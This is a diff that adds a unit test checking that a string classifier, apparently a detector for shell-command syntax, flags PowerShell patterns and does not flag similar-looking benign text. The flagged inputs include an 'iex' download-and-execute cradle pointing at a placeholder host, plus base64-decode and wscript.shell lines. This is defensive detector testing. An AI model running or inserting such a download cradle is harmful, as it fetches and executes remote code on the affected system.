@@ -329,3 +329,13 @@ Test(webstruct, cmd_if_reads_switches_and_parenthesised_conditions)
     cr_assert_not(shell("if (you) are here", FK_WS_PARAM));
     cr_assert_not(shell("if/when possible", FK_WS_PARAM));
 }
+
+Test(webstruct, powershell_syntax)
+{
+    cr_assert(shell("x; iex (new-object net.webclient).downloadstring('http://e.example/a')",
+                    FK_WS_PARAM));
+    cr_assert(shell("[system.convert]::frombase64string('aWQ=')", FK_WS_PARAM));
+    cr_assert(shell("new-object -comobject wscript.shell", FK_WS_PARAM));
+    cr_assert_not(shell("see note [1]::2", FK_WS_PARAM));
+    cr_assert_not(shell("a new-object approach", FK_WS_PARAM));
+}
